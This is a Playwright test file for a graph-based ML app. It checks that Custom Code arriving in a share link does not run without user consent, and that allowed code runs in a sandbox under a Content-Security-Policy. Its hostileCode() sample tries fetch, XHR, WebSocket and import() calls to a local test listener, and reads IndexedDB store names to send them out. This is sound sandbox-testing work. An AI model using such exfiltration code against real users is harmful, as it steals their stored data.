/**
 * Code that arrives from someone else does not run without consent (issue #11, section 2).
 * A share link carries a Custom Code node whose code tries to reach a listener this test
 * starts on another port (fetch, XHR, WebSocket, import()) and to read and write IndexedDB:
 * before consent nothing reaches the listener and nothing is written, also after reloads
 * (autosave keeps the code inert); after the user reads the code and allows it, training runs
 * it — in the sandbox, where it still reaches neither the listener nor storage, as the name of
 * the parameter it creates (what the code saw of those globals) shows. An endless loop in
 * allowed code is stopped with a message on its node and the app stays usable. The preview
 * server sends the Content-Security-Policy (eval only for the sandbox worker).
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readdirSync } from 'node:fs';
import { test, expect, type Page } from '@playwright/test';
import { encodeGraph } from '../app/actions/share.ts';
import { defaultAttrs } from '../engine/graph/catalog.ts';
import type { GraphJSON } from '../engine/graph/types.ts';
import { DOCUMENT_CSP, SANDBOX_CSP } from '../csp.config.ts';
import { node, setAttr, trainToEnd } from './helpers.ts';

/** A listener on another origin: every request and upgrade that reaches it. */
let listener: Server;
let hits: string[] = [];
let port = 0;

test.beforeAll(async () => {
  listener = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('export default 1;');
  });
  listener.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  port = (listener.address() as AddressInfo).port;
});

test.afterAll(() => new Promise<void>((r) => listener.close(() => r())));
test.beforeEach(() => {
  hits = [];
});

/** Tries every way out it can find, then creates a parameter named after what it saw. */
function hostileCode(): string {
  const u = `http://127.0.0.1:${port}/`;
  return [
    `const u = '${u}';`,
    "const seen = [typeof fetch, typeof indexedDB, typeof XMLHttpRequest, typeof WebSocket, typeof importScripts, typeof caches].join('_');",
    "try { if (typeof fetch === 'function') fetch(u + 'fetch', { mode: 'no-cors' }).catch(() => {}); } catch (e) {}",
    "try { if (typeof XMLHttpRequest === 'function') { const r = new XMLHttpRequest(); r.open('GET', u + 'xhr'); r.send(); } } catch (e) {}",
    `try { if (typeof WebSocket === 'function') new WebSocket('ws://127.0.0.1:${port}/ws'); } catch (e) {}`,
    "try { import(u + 'import.js').catch(() => {}); } catch (e) {}",
    "try { if (typeof indexedDB === 'object') { const r = indexedDB.open('flowgrad-projects'); r.onsuccess = () => { indexedDB.open('flowgrad-pwned'); const names = [...r.result.objectStoreNames].join(','); if (typeof fetch === 'function') fetch(u + 'idb?' + names, { mode: 'no-cors' }).catch(() => {}); }; } } catch (e) {}",
    "const probe = ctx.param('probe_' + seen, [1], 'ones');",
    'return x.mul(probe);',
  ].join('\n');
}

/** Input(2) → Dense(16) → Custom Code → Dense(2) → Softmax → Loss, as a share link. */
function shareLink(code: string): string {
  const chain: [string, string, Record<string, unknown>][] = [
    ['input', 'Input', { shape: [2] }],
    ['dense1', 'Dense', { units: 16 }],
    ['cc1', 'CustomCode', { code, outputShape: [] }],
    ['dense2', 'Dense', { units: 2 }],
    ['softmax', 'Softmax', {}],
    ['loss', 'Loss', { loss: 'crossEntropy' }],
  ];
  const nodes = chain.map(([id, type, attrs], i) => ({ id, type, attrs: { ...defaultAttrs(type), ...attrs }, position: { x: 40 + i * 200, y: 160 } }));
  const edges = nodes.slice(1).map((t, i) => ({ id: `e${i}`, source: nodes[i]!.id, sourcePort: 'out', target: t.id, targetPort: 'in' }));
  const graph = { format: 'flowgrad.graph', version: 1, nodes, edges } as GraphJSON;
  return `/?e2e#graph=${encodeGraph(graph)}`;
}

const pwned = (page: Page) => page.evaluate(async () => (await indexedDB.databases()).some((d) => d.name === 'flowgrad-pwned'));
const consentBar = (page: Page) => page.getByRole('region', { name: 'Code not run' });
const trainButton = (page: Page) => page.getByRole('button', { name: 'Train', exact: true });

/** The link's graph is on the canvas; after an edit it is autosaved (a reload brings it back). */
async function opened(page: Page): Promise<void> {
  await expect(node(page, 'Custom Code')).toBeVisible();
  await setAttr(page, node(page, 'Dense').first(), 'Units', '12');
  await expect
    .poll(() => page.evaluate(() => new Promise<boolean>((resolve) => {
      const r = indexedDB.open('flowgrad');
      r.onsuccess = () => {
        const tx = r.result.transaction('autosave').objectStore('autosave').get('current');
        tx.onsuccess = () => resolve(JSON.stringify(tx.result ?? null).includes('flowgrad-pwned'));
        tx.onerror = () => resolve(false);
      };
      r.onerror = () => resolve(false);
    })))
    .toBe(true);
}

test('a hostile share link opens inert: nothing reaches the listener or storage, also after reloads', async ({ page }) => {
  const csp: string[] = [];
  page.on('console', (m) => /Content Security Policy/i.test(m.text()) && csp.push(m.text()));
  await page.goto(shareLink(hostileCode()));
  await opened(page);
  await expect(consentBar(page)).toBeVisible();
  await expect(node(page, 'Custom Code').getByRole('note')).toContainText('code not run');
  // Shapes still show where they need no code: the node passes its input's shape on.
  await expect(node(page, 'Custom Code')).toContainText('→ N×12');
  await expect(node(page, 'Dense').last()).toContainText('→ N×2');
  await expect(trainButton(page)).toBeDisabled();
  await page.getByRole('button', { name: /has not been allowed to run: review it/ }).click();
  await expect(page.getByRole('dialog', { name: 'Review Custom Code before it runs' })).toBeVisible();
  await page.getByRole('button', { name: 'Not now' }).click();

  for (let reload = 0; reload < 2; reload++) {
    await page.waitForTimeout(2500); // the old app ran link code about 2 s after opening
    expect(hits).toEqual([]);
    expect(await pwned(page)).toBe(false);
    await page.reload();
    await expect(node(page, 'Custom Code')).toBeVisible();
    await expect(consentBar(page)).toBeVisible();
  }
  await page.waitForTimeout(2500);
  expect(hits).toEqual([]);
  expect(await pwned(page)).toBe(false);
  expect(csp).toEqual([]); // nothing even tried
});

test('consent: the user reads the code and allows it; it trains in the sandbox, which still reaches nothing', async ({ page }) => {
  const code = hostileCode();
  await page.goto(shareLink(code));
  await opened(page);
  await consentBar(page).getByRole('button', { name: 'Review code…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Review Custom Code before it runs' });
  await expect(dialog.getByRole('region', { name: 'Code of cc1' })).toContainText("indexedDB.open('flowgrad-pwned')");
  await dialog.getByRole('button', { name: 'Allow and run' }).click();
  await expect(consentBar(page)).toHaveCount(0);
  await expect(node(page, 'Custom Code').getByRole('note')).toHaveCount(0); // checked on a dummy batch: fine

  await page.getByLabel('Epochs').fill('3');
  await page.getByLabel('Epochs').press('Enter');
  await trainToEnd(page);
  // The code ran (its parameter was trained) and saw none of the ways out.
  const names = await page.evaluate(() => {
    const w = window.__flowgrad!.getLastWeights()!;
    const n = Number(new DataView(w.buffer, w.byteOffset).getBigUint64(0, true));
    return Object.keys(JSON.parse(new TextDecoder().decode(w.subarray(8, 8 + n))) as object);
  });
  expect(names).toContain('cc1.probe_undefined_undefined_undefined_undefined_undefined_undefined');
  expect(hits).toEqual([]); // import() from another origin is refused by the sandbox's CSP
  expect(await pwned(page)).toBe(false);

  // The approval is remembered: a reload does not ask again.
  await page.reload();
  await expect(node(page, 'Custom Code')).toBeVisible();
  await expect(trainButton(page)).toBeEnabled();
  await expect(consentBar(page)).toHaveCount(0);
  expect(hits).toEqual([]);
});

test('an endless loop in allowed code is stopped with a message on its node; the app stays usable', async ({ page }) => {
  await page.goto(shareLink('let i = 0;\nwhile (true) { i++; }\nreturn x;'));
  await expect(node(page, 'Custom Code')).toBeVisible();
  await consentBar(page).getByRole('button', { name: 'Review code…' }).click();
  await page.getByRole('button', { name: 'Allow and run' }).click();
  // The page answers while the sandbox spins.
  await node(page, 'Softmax').click();
  await expect(page.getByRole('complementary', { name: 'Inspector' })).toContainText('Softmax');
  const note = node(page, 'Custom Code').getByRole('note');
  await expect(note).toContainText(/did not finish within \d+ s \(an endless loop\?\), so it was stopped/, { timeout: 45_000 });
  await expect(note).toContainText('‘cc1’');

  // A fresh sandbox checks the fixed code.
  await node(page, 'Custom Code').click();
  await page.getByRole('complementary', { name: 'Inspector' }).getByRole('button', { name: 'Edit code' }).click();
  const dialog = page.getByRole('dialog', { name: /^Custom Code · / });
  await dialog.getByTestId('custom-code-editor').locator('.view-lines').click();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  await page.keyboard.type('return x.relu();');
  await expect(dialog.getByRole('status')).toHaveText('Runs on a dummy batch without errors.', { timeout: 30_000 });
  await dialog.getByRole('button', { name: 'Done' }).click();
  await expect(note).toHaveCount(0);
});

test('the preview server sends the Content-Security-Policy; only the sandbox worker may eval', async ({ request }) => {
  const outDir = process.env.FLOWGRAD_E2E_OUTDIR ?? 'dist';
  const page = await request.get('/');
  expect(page.headers()['content-security-policy']).toBe(DOCUMENT_CSP);
  const sandbox = readdirSync(`${outDir}/sandbox`).find((f) => f.endsWith('.js'))!;
  const worker = await request.get(`/sandbox/${sandbox}`);
  expect(worker.ok()).toBe(true);
  expect(worker.headers()['content-security-policy']).toBe(SANDBOX_CSP);
  const engine = readdirSync(`${outDir}/assets`).find((f) => /^engine\.worker-.*\.js$/.test(f))!;
  expect((await request.get(`/assets/${engine}`)).headers()['content-security-policy']).toBe(DOCUMENT_CSP);
});
